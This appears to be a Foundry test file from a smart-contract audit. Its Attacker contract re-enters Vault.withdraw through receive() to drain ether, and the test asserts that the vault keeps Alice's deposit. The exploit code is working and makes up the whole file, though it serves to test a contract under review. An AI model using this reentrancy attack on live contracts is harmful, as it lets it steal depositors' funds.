// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Test} from "forge-std/Test.sol";
import {Vault} from "../src/Vault.sol"; // contract under review

/// Re-enters Vault.withdraw from receive() until the vault is empty.
contract Attacker {
    Vault public immutable vault;
    uint256 public reentries;

    constructor(Vault v) { vault = v; }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
    }

    receive() external payable {
        if (address(vault).balance >= msg.value && reentries < 10) {
            reentries++;
            vault.withdraw(msg.value);
        }
    }
}

contract ReentrancyPoC is Test {
    Vault vault;
    address alice = makeAddr("alice");

    function setUp() public {
        vault = new Vault();
        vm.deal(alice, 10 ether);
        vm.prank(alice);
        vault.deposit{value: 10 ether}();
    }

    function test_withdrawReentrancy() public {
        Attacker a = new Attacker(vault);
        vm.deal(address(this), 1 ether);
        a.attack{value: 1 ether}();
        // Invariant: the vault must still hold Alice's deposit.
        assertGe(address(vault).balance, 10 ether, "vault drained via reentrancy");
    }
}
